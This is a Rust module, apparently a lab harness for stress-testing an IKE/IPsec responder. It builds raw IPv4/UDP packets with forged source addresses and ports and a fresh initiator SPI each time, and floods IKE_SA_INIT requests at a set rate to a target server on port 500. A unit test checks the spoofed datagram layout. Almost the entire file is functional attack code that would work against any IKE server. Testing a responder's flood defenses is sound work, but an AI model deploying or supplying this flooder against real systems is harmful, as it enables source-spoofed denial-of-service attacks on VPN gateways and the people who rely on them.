//! An IKE_SA_INIT flood from spoofed sources: one valid request, sent again and again with a
//! new initiator SPI, source address and source port each time, from a raw IPv4 socket
//! (`IPPROTO_RAW`, so we write the IP header; needs CAP_NET_RAW). The responder's answers go
//! to addresses nobody holds, as a real flood's would. The responder must route the spoofed
//! network back towards the generator (or drop the answers); its reverse-path filter must let
//! the requests in.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};

const IPV4_HEADER: usize = 20;
const UDP_HEADER: usize = 8;
const IKE_PORT: u16 = 500;

/// What to send.
#[derive(Debug, Clone)]
pub struct Plan {
    /// An IKE_SA_INIT request (UDP payload).
    pub request: Vec<u8>,
    pub server: SocketAddrV4,
    /// Sources are `net + 1 ..= net + hosts`.
    pub net: Ipv4Addr,
    pub hosts: u32,
    /// Requests per second.
    pub rate: u32,
    pub length: Duration,
}

/// What was sent.
#[derive(Debug, Default, Clone, Copy)]
pub struct Sent {
    pub packets: u64,
    /// Sends the kernel refused (full queue).
    pub errors: u64,
    pub elapsed: Duration,
}

impl Sent {
    pub fn rate(&self) -> f64 {
        self.packets as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// Sends `plan.rate` requests per second for `plan.length`, or until `stop`.
pub fn run(plan: &Plan, stop: &AtomicBool) -> io::Result<Sent> {
    let fd = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))?;
    let mut packet = vec![0u8; IPV4_HEADER + UDP_HEADER + plan.request.len()];
    let start = Instant::now();
    let mut sent = Sent::default();
    let mut i: u64 = 0;
    while start.elapsed() < plan.length && !stop.load(Ordering::Relaxed) {
        let due = (start.elapsed().as_secs_f64() * f64::from(plan.rate)) as u64;
        while sent.packets + sent.errors < due {
            build(plan, i, &mut packet);
            i += 1;
            match sendto(&fd, &packet, SendFlags::empty(), &plan.server) {
                Ok(_) => sent.packets += 1,
                Err(_) => sent.errors += 1,
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    sent.elapsed = start.elapsed();
    Ok(sent)
}

/// Request number `i`: its own SPI, source address and port.
fn build(plan: &Plan, i: u64, out: &mut [u8]) {
    let spi = splitmix(i);
    let host = 1 + u32::try_from(i % u64::from(plan.hosts.max(1))).expect("below hosts");
    let src = Ipv4Addr::from(u32::from(plan.net) + host);
    let sport = 1024 + (i % 60_000) as u16;
    let total = out.len();
    let (ip, rest) = out.split_at_mut(IPV4_HEADER);
    ip.copy_from_slice(&[0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    ip[2..4].copy_from_slice(&u16::try_from(total).expect("one datagram").to_be_bytes());
    ip[12..16].copy_from_slice(&src.octets());
    ip[16..20].copy_from_slice(&plan.server.ip().octets());
    let sum = checksum(ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    let (udp, ike) = rest.split_at_mut(UDP_HEADER);
    udp[0..2].copy_from_slice(&sport.to_be_bytes());
    udp[2..4].copy_from_slice(&IKE_PORT.to_be_bytes());
    udp[4..6]
        .copy_from_slice(&u16::try_from(total - IPV4_HEADER).expect("one datagram").to_be_bytes());
    // No UDP checksum: optional over IPv4 (RFC 768).
    udp[6..8].copy_from_slice(&[0, 0]);
    ike.copy_from_slice(&plan.request);
    ike[..8].copy_from_slice(&spi.to_be_bytes());
}

/// The Internet checksum (RFC 1071) of an IPv4 header whose checksum field is zero.
fn checksum(header: &[u8]) -> u16 {
    let mut sum: u32 = header
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], *w.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// SPIs that look random and are never zero (an initiator SPI of zero is invalid, §3.1).
fn splitmix(i: u64) -> u64 {
    let mut z = i.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    (z ^ (z >> 31)) | 1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builds_a_valid_spoofed_datagram() {
        let plan = Plan {
            request: vec![0xaa; 40],
            server: SocketAddrV4::new(Ipv4Addr::new(10, 99, 0, 2), 500),
            net: Ipv4Addr::new(10, 200, 0, 0),
            hosts: 3,
            rate: 1,
            length: Duration::ZERO,
        };
        let mut p = vec![0u8; 68];
        build(&plan, 4, &mut p);
        assert_eq!(&p[..4], &[0x45, 0, 0, 68]);
        assert_eq!(checksum(&p[..20]), 0, "a header with its checksum sums to zero");
        assert_eq!(&p[12..16], &[10, 200, 0, 2], "host 1 + 4 % 3");
        assert_eq!(&p[16..20], &[10, 99, 0, 2]);
        assert_eq!(u16::from_be_bytes([p[20], p[21]]), 1028);
        assert_eq!(u16::from_be_bytes([p[22], p[23]]), 500);
        assert_eq!(u16::from_be_bytes([p[24], p[25]]), 48);
        assert_eq!(u64::from_be_bytes(p[28..36].try_into().unwrap()), splitmix(4));
        assert_eq!(&p[36..], &[0xaa; 32]);
        let mut q = vec![0u8; 68];
        build(&plan, 5, &mut q);
        assert_ne!(p[28..36], q[28..36], "each request has its own SPI");
        // RFC 1071's example: 0001 f203 f4f5 f6f7 sums to ddf2, complement 220d.
        assert_eq!(checksum(&[0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7]), 0x220d);
    }
}
